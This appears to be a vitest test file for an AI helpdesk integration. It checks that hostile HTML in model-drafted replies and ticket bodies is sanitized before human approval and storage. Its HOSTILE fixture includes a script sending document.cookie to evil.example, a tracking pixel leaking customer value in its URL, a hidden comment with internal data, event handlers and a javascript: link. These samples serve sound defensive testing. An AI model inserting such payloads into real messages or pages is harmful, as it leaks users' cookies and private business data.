// What is posted is what the card shows: a hostile reply body drafted by the (scripted) model —
// an HTML comment carrying internal data, a remote image with data in its URL, event handlers,
// a script — is cleaned in main before the approval is raised, and the sandbox helpdesk stores
// exactly the body the card showed (docs/approvals.md). The same for a ticket description.
import { describe, expect, it } from 'vitest';
import { say, toolUse } from '../../fakes/anthropic';
import { sanitizeOutgoingHtml } from '../../../src-main/core/tools/outgoing-html';
import { makeChatRig, rawFreshdeskGet, useChatWorld, type ChatRig } from './setup';

let rig: ChatRig;
const world = useChatWorld(() => rig);

const HOSTILE =
  '<p onclick="steal()">Hi Pat,<!-- internal: customer LTV $90k, churn risk high --> the export is fixed.</p>' +
  '<img src="https://tracker.example/pixel.png?ticket=42&ltv=90k" width="1" height="1">' +
  '<p>See <a href="https://help.example/export?ref=agent-dana" onmouseover="x()">our help page</a>.</p>' +
  '<script>fetch("https://evil.example/?c=" + document.cookie)</script><style>p{display:none}</style>' +
  '<p><a href="javascript:alert(1)">click</a></p><img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">';

describe('outgoing HTML', () => {
  it('a hostile reply body is stored by the helpdesk exactly as the card showed it', async () => {
    rig = await makeChatRig(world);
    await rig.connect('alice', 0);
    const agent = world.sandbox.accounts.find((a) => a.subdomain === 'acme')!.agents[0];
    const list = await rig.t.core.tools.execute('alice', 'freshdesk_tickets_list', { per_page: 5 });
    const id = (list.ok ? (list.data as Array<{ id: number }>) : [])[0].id;
    world.fake.script(toolUse('freshdesk_tickets_reply', { ticket_id: id, body: HOSTILE }), say('Sent.'));

    const turn = rig.t.core.chat.send('alice', 'general', `Reply to #${id} that the export is fixed`);
    const approval = await rig.waitFor('approval_required');
    const shown = approval.preview.kind === 'reply' ? approval.preview.body : '';
    expect(shown).toBe(sanitizeOutgoingHtml(HOSTILE));
    expect(approval.input).toMatchObject({ body: shown });
    for (const gone of ['<!--', 'LTV', 'tracker.example', 'onclick', 'onmouseover', '<script', 'evil.example', '<style', 'javascript:']) {
      expect(shown, gone).not.toContain(gone);
    }
    expect(shown).toContain('<a href="https://help.example/export?ref=agent-dana">our help page</a>');
    expect(shown).toContain('src="data:image/png;base64,iVBORw0KGgo="');

    await rig.t.core.chat.resolveApproval(approval.callId, { approved: true });
    expect(await turn).toBe('end_turn');
    const conversations = JSON.parse(await rawFreshdeskGet(world, 'acme', agent.apiKey, `/api/v2/tickets/${id}/conversations`)) as Array<{
      body: string;
    }>;
    expect(conversations.at(-1)?.body).toBe(shown);
  });

  it('an edited body is cleaned the same way; a body with nothing left is refused', async () => {
    rig = await makeChatRig(world);
    await rig.connect('alice', 0);
    const list = await rig.t.core.tools.execute('alice', 'freshdesk_tickets_list', { per_page: 5 });
    const id = (list.ok ? (list.data as Array<{ id: number }>) : [])[0].id;
    world.fake.script(toolUse('freshdesk_ticket_create', { email: 'pat@c.example', subject: 'S', description: '<p>ok</p>' }), say('Done.'));
    const turn = rig.t.core.chat.send('alice', 'general', `Open a ticket for pat@c.example (see #${id})`);
    const approval = await rig.waitFor('approval_required');
    await expect(
      rig.t.core.chat.resolveApproval(approval.callId, {
        approved: true,
        input: { email: 'pat@c.example', subject: 'S', description: '<script>x()</script><!-- only this -->' },
      }),
    ).rejects.toMatchObject({ code: 'invalid_input', message: expect.stringMatching(/nothing left to send/) });
    await rig.t.core.chat.resolveApproval(approval.callId, {
      approved: true,
      input: { email: 'pat@c.example', subject: 'S', description: HOSTILE },
    });
    expect(await turn).toBe('end_turn');
    const item = rig.t.core.chat.thread('alice', 'general').items.find((i) => i.kind === 'tool');
    expect(item).toMatchObject({ status: 'done', input: { description: sanitizeOutgoingHtml(HOSTILE) } });
  });

  it('every path cleans the same way: a reply sent straight through the tool service (the composer, MCP)', async () => {
    rig = await makeChatRig(world);
    await rig.connect('alice', 0);
    const agent = world.sandbox.accounts.find((a) => a.subdomain === 'acme')!.agents[0];
    const list = await rig.t.core.tools.execute('alice', 'freshdesk_tickets_list', { per_page: 5 });
    const id = (list.ok ? (list.data as Array<{ id: number }>) : [])[1].id;
    const sent = await rig.t.core.tools.execute('alice', 'freshdesk_tickets_reply', { ticket_id: id, body: HOSTILE });
    expect(sent.ok).toBe(true);
    const conversations = JSON.parse(await rawFreshdeskGet(world, 'acme', agent.apiKey, `/api/v2/tickets/${id}/conversations`)) as Array<{
      body: string;
    }>;
    expect(conversations.at(-1)?.body).toBe(sanitizeOutgoingHtml(HOSTILE));
    const huge = await rig.t.core.tools.execute('alice', 'freshdesk_tickets_reply', {
      ticket_id: id,
      body: `<p>${'x'.repeat(600_000)}</p>`,
    });
    expect(huge).toMatchObject({ ok: false, error: { kind: 'invalid_input', fields: [expect.objectContaining({ field: 'body' })] } });
    const deep = await rig.t.core.tools.execute('alice', 'freshdesk_tickets_reply', { ticket_id: id, body: '<b>'.repeat(3_000) });
    expect(deep).toMatchObject({ ok: false, error: { kind: 'invalid_input' } });
  });

  it('the policy is idempotent, so cleaning again before sending changes nothing', () => {
    const once = sanitizeOutgoingHtml(HOSTILE);
    expect(sanitizeOutgoingHtml(once)).toBe(once);
  });
});
